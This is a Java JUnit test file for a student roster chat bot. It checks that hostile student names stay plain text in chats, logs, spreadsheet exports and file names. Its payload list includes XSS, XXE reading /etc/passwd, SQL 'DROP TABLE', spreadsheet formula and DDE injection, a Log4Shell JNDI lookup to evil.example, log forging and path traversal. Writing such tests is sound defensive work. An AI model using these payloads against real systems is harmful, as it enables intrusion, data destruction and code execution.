package gradcheck.app;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import gradcheck.EverythingLogged;
import gradcheck.ListedLog;
import gradcheck.message.Incoming;
import gradcheck.message.Outgoing;
import gradcheck.message.PersonId;
import gradcheck.roster.write.Exports;
import gradcheck.roster.write.Exports.Format;
import gradcheck.roster.write.Exports.Kind;
import gradcheck.turn.Answer;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/** Students whose names, classes and words are an attack each: wherever they go they stay a name, a class, and words. */
class InjectionTest {
    private static final List<String> NAMES = List.of(
            "<script>alert(1)</script>",
            "<a href=\"http://evil.example\">点击领取</a>",
            "]]></Content><MsgType>image</MsgType>",
            "&lt;b&gt;&xxe;<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
            "'); DROP TABLE student; --",
            "\" OR \"1\"=\"1",
            "=HYPERLINK(\"http://evil.example\")",
            "+cmd|' /C calc'!A0",
            "＝1+1",
            "@SUM(A1)",
            "张三\r\n2027-03-15T10:00:00.000+08:00 level=ERROR event=forged",
            "\u001b[2K\u001b[1Alevel=ERROR event=forged",
            "{office}{secretary}{name}",
            "{text}{form}",
            "[点我](http://evil.example)",
            "\u202Ecod.exe",
            "${jndi:ldap://evil.example/x}",
            "%s%n%x$1\\1",
            "../../etc/passwd\u0000.xlsx",
            "Robert'\u2028; x");
    private static final String COLLEGE = "信息科学与工程学院";
    private static final long FIRST = 320230188801L;
    /** Where a message could become more than words. */
    private static final Pattern TAG = Pattern.compile("<[a-zA-Z/!?]");

    private static final Pattern CONTROL = Pattern.compile("[\\p{Cc}&&[^\\n]]");

    @TempDir
    Path folder;

    private final ListedLog logs = new ListedLog();
    private EverythingLogged everything;
    private TestBot bot;
    private int count;

    @BeforeEach
    void start() throws Exception {
        logs.start();
        everything = new EverythingLogged(logs);
        bot = new TestBot(folder);
        bot.importRoster(
                IntStream.range(0, NAMES.size())
                        .mapToObj(i -> FIRST + i + "," + quoted(NAMES.get(i)) + "," + COLLEGE + ","
                                + quoted(NAMES.get(i)) + "," + quoted(NAMES.get(i)) + "\n")
                        .collect(Collectors.joining("", "学号,姓名,学院,专业,班级\n", "")),
                false);
    }

    @AfterEach
    void stop() {
        bot.close();
        everything.close();
    }

    private static String quoted(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    /** What everybody hears because of it; cards aside, whose words can't be anything else. */
    private String say(PersonId who, String text) {
        count++;
        Answer answer = bot.take(new Incoming.Text(who, "n" + count, bot.now(), text));
        bot.doWhatIsDue();
        String all = (answer instanceof Answer.Says says ? says.text() : "")
                + bot.sent().stream().map(TestBot.Sent::text).collect(Collectors.joining("\n"));
        bot.sent().clear();
        bot.cards().clear();
        assertThat(TAG.matcher(all).results()).as(all).isEmpty();
        assertThat(CONTROL.matcher(all).results()).as(all).isEmpty();
        return all;
    }

    private static PersonId student(int i) {
        return new PersonId(Long.toString(FIRST + i));
    }

    @Tag("long")
    @Test
    void in_chats_a_name_is_a_name_and_a_wish_is_a_wish() {
        PersonId secretary = bot.named("王老师").orElseThrow();
        for (int i = 0; i < NAMES.size(); i++) {
            PersonId who = student(i);
            List.of("进度", "开始核对", "已阅读").forEach(word -> say(who, word));
            say(who, "专业改为" + NAMES.get(i));
            List.of("1", "1", "我确认", "联系老师").forEach(word -> say(who, word));
            say(who, "请问" + NAMES.get(i) + "怎么办");
            String shown = say(secretary, "查 " + who);
            assertThat(shown).contains(visible(NAMES.get(i)));
            List.of("为什么 %s 没收到", "回复 %s 好的" + NAMES.get(i), "暂停 %s " + NAMES.get(i), "恢复 %s", "已联系 %s " + NAMES.get(i))
                    .forEach(act -> say(secretary, act.replace("%s", who.value())));
            say(secretary, "查 " + NAMES.get(i));
            say(secretary, NAMES.get(i) + "核对了吗");
        }
        List.of("未核对", "待审核", "进度", "电话名单", "催办 未核对", "确认").forEach(word -> say(secretary, word));
        bot.at(java.time.Instant.parse("2027-04-20T01:10:00Z"));
        say(secretary, "进度");
        int people =
                bot.store().read(t -> t.students().ofCollege(bot.season(), "").size());
        assertThat(people).as("no table was dropped").isGreaterThan(NAMES.size() + 50);
        assertThat(lines()).noneMatch(line -> line.contains("\n") || line.contains("\u001b"));
        assertThat(lines()).isNotEmpty().noneMatch(line -> line.startsWith("level=ERROR event=forged"));
    }

    /** As a chat shows it: nothing of it is left out or filled in, only what would be a tag is full-width. */
    private static String visible(String name) {
        return name.replaceAll("<(?=[a-zA-Z/!?])", "＜")
                .replaceAll("\\p{Cc}+", " ")
                .replaceAll("\\u2028", "")
                .strip();
    }

    /** Every event as the program's own layout writes it, without the line's end. */
    private List<String> lines() {
        return logs.list.stream()
                .map(everything::line)
                .map(line -> line.substring(0, line.length() - 1))
                .toList();
    }

    @Test
    void what_is_logged_of_them_is_one_line_each() {
        List.of("gradcheck.test", "some.library")
                .forEach(by -> NAMES.forEach(name -> LoggerFactory.getLogger(by).info("event=test value={}", name)));
        assertThat(lines()).noneMatch(line -> CONTROL.matcher(line).find() || line.contains("\n"));
        assertThat(lines()).noneMatch(line -> line.contains("\u2028"));
    }

    @Test
    void in_files_a_name_is_a_text_that_nothing_runs() throws Exception {
        for (Kind kind : List.of(Kind.ROSTER, Kind.PHOTOS, Kind.STATISTICS)) {
            List<String> xlsx = new ArrayList<>();
            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export(kind, Format.XLSX)))) {
                for (Row row : workbook.getSheetAt(0)) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                        assertThat(cell.getHyperlink()).isNull();
                        xlsx.add(cell.getStringCellValue());
                    }
                }
            }
            String text = new String(export(kind, Format.CSV), StandardCharsets.UTF_8).substring(1);
            List<String> csv = CsvReader.builder().ofCsvRecord(text).stream()
                    .flatMap(record -> record.getFields().stream())
                    .toList();
            assertThat(csv).hasSizeGreaterThan(NAMES.size());
            for (List<String> cells : List.of(xlsx, csv)) {
                assertThat(cells).noneMatch(cell -> cell.matches("(?s)[=+@＝\\p{Cc}-].*"));
                assertThat(cells).anyMatch(cell -> cell.contains("HYPERLINK"));
            }
        }
    }

    private byte[] export(Kind kind, Format format) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Exports exports = new Exports(TestSettings.season());
        bot.store().read(tables -> {
            try {
                return exports.write(new Exports.Order(kind, "", format), tables, out);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        return out.toByteArray();
    }

    @Test
    void the_name_of_a_file_is_no_path() {
        PersonId secretary = bot.named("王老师").orElseThrow();
        for (int i = 0; i < NAMES.size(); i++) {
            String said = NAMES.get(i) + "的名单";
            count++;
            bot.take(new Incoming.Text(secretary, "f" + count, bot.now(), said));
        }
        bot.take(new Incoming.Text(secretary, "all", bot.now(), "未核对"));
        bot.take(new Incoming.Text(secretary, "export", bot.now(), "导出 名单"));
        bot.doWhatIsDue();
        List<String> names = bot.sent().stream()
                .map(TestBot.Sent::message)
                .filter(Outgoing.File.class::isInstance)
                .map(m -> ((Outgoing.File) m).attachment().name())
                .toList();
        assertThat(names).isNotEmpty().noneMatch(name -> name.matches("(?s).*[/\\\\:\"<>|\\p{Cc}\\p{Cf}].*"));
    }
}
